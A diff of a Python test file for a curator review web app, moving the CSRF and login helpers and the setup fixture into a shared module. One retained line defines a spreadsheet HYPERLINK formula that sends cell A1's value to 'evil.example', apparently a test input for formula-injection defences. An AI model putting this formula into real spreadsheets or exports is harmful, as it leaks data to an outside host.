@@ -19,36 +19,18 @@ from typer.testing import CliRunner
 
 sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "review"))
 import seed_run  # noqa: E402
+from review_client import BASE, TOKEN, csrf, login, open_review  # noqa: E402,F401
 
 from pipeline import store  # noqa: E402
 from pipeline.review import create_app  # noqa: E402
 from pipeline.review.commands import register  # noqa: E402
 
-BASE = "http://127.0.0.1"
-TOKEN = re.compile(r'(?:<meta name="csrf-token" content|name="csrf_token" value)="([0-9a-f]+)"')
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-def csrf(client: TestClient) -> str:
-    return TOKEN.search(client.get("/curator").text).group(1)
-
-
-def login(client: TestClient, name: str) -> str:
-    token = csrf(client)
-    response = client.post("/curator", data={"csrf_token": token, "name": name, "next": "/queue"})
-    assert response.status_code == 200
-    return token
 
 
 @pytest.fixture
 def setup(tmp_path):
-    run = seed_run.write_run(tmp_path / "run1")
-    db = tmp_path / "facts.db"
-    store.load_run(run, db)
-    app = create_app(db)
-    client = TestClient(app, base_url=BASE)
-    token = login(client, "Ann Curator")
-    return {"tmp": tmp_path, "run": run, "db": db, "app": app, "client": client, "token": token}
+    return open_review(tmp_path)
 
 
 @pytest.fixture
